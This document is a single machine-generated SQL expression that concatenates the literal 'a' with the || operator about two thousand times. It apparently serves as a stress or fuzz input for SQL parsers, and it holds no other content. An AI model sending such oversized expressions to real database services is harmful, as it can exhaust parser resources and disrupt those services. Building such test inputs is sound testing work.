'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' 